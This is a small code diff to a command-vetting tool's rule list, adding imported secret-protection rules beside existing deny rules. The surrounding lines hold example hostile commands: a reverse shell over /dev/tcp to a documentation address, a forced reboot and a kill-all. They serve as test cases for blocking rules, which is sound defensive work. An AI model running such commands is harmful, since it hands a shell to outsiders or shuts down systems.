@@ -11,6 +11,7 @@ from collections.abc import Mapping
 from pointsman.hooks.downloads import FETCHERS
 from pointsman.hooks.git_rules import GIT_RULES
 from pointsman.hooks.rule import Rule, Scene
+from pointsman.hooks.secret_rules import SECRET_RULES
 from pointsman.model.decision import Action
 from pointsman.shell.carried import SHELLS, is_interpreter
 from pointsman.shell.effects import ENDLESS, UNKNOWN, Effect, Invocation, Kind
@@ -281,6 +282,7 @@ _BY_ID = (
     Rule("reverse-shell", Action.DENY, "Hands a shell to somebody on the network.",
          _reverse_shell, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -z localhost 80"),
     *GIT_RULES,
+    *SECRET_RULES,
     Rule("power", Action.DENY, "Ends the machine.", _power, "sudo reboot", "uptime"),
     Rule("kill-all", Action.DENY, "Ends every process.", _kill_all, "kill -9 -1", "kill -9 4242"),
 )  # fmt: skip
